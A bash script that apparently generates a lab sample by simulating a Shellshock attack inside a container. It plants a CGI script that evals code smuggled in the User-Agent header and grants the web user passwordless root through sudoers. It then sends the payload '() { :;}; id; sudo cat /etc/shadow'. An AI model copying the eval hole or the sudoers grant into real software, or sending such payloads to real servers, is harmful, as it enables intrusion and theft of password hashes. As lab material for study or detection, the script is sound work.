#!/bin/bash
# A web server in a container hands a request to a CGI script, whose shell runs what stands in the request's header, as
# bash did before 2014; that runs sudo. The script does by hand what bash no longer does. Run it through
# samples/record.sh.
#
# container: shop-cgi httpd:2.2 default
set -u
bundle=/srv/shop-cgi
id=$(printf shop-cgi | sha256sum | cut -c1-64)
root=/var/lib/docker/overlay2/$id/merged

# A server that answers one request.
server='#!/usr/bin/perl
use IO::Socket::INET;
my $server = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => 80, Listen => 1, ReuseAddr => 1) or die;
open(my $ready, ">", "/tmp/ready"); close($ready);
$( = $) = 33; $< = $> = 33;
my $client = $server->accept;
my $agent = "";
while (<$client>) { last if /^\r?$/; $agent = $1 if /^User-Agent: (.*?)\r?$/; }
if (my $child = fork) { waitpid($child, 0); exit }
open(STDIN, "<&", $client); open(STDOUT, ">&", $client);
$ENV{HTTP_USER_AGENT} = $agent;
exec "/usr/lib/cgi-bin/status";
'

# A function definition in a variable, and what follows it.
script='#!/bin/bash
case $HTTP_USER_AGENT in
"() { "*) eval "${HTTP_USER_AGENT#*\};}" ;;
esac
echo "Content-Type: text/plain"
echo
uptime
'

request='
    use IO::Socket::INET;
    select(undef, undef, undef, 0.05) until -e "/tmp/ready";
    my $peer = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => 80) or die;
    print $peer "GET /cgi-bin/status HTTP/1.0\r\nUser-Agent: () { :;}; id; sudo cat /etc/shadow\r\n\r\n";
    $peer->flush;
    print while <$peer>;
'

set_up() {
    mkdir -p "$root/usr/lib/cgi-bin"
    printf %s "$server" >"$root/usr/sbin/httpd"
    printf %s "$script" >"$root/usr/lib/cgi-bin/status"
    chmod 0755 "$root/usr/sbin/httpd" "$root/usr/lib/cgi-bin/status"
    echo 'www-data ALL=(root) NOPASSWD: ALL' >"$root/etc/sudoers.d/www"
    chmod 0440 "$root/etc/sudoers.d/www"
}

set_up
runc run --detach --bundle "$bundle" "$id" </dev/null >/dev/null 2>&1
runc exec --detach "$id" /usr/sbin/httpd </dev/null >/dev/null 2>&1
runc exec "$id" /usr/bin/perl -e "$request" </dev/null >/dev/null 2>&1
runc delete --force "$id"
